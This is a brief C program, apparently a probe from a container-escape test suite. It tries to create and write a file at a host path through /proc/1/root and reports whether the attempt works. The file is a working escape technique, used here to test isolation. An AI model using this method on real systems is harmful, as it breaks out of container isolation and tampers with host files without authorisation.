/* proc_root PATH: create PATH (a host path) through /proc/1/root, the
 * root of pid 1, which on the host is the host's own root. */
#include "escape.h"

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    char p[4096];
    snprintf(p, sizeof p, "/proc/1/root%s", argv[1]);
    int fd = open(p, O_CREAT | O_WRONLY, 0644);
    report("create via /proc/1/root", fd);
    if (fd >= 0) report("write", write(fd, "escaped\n", 8));
    return 0;
}
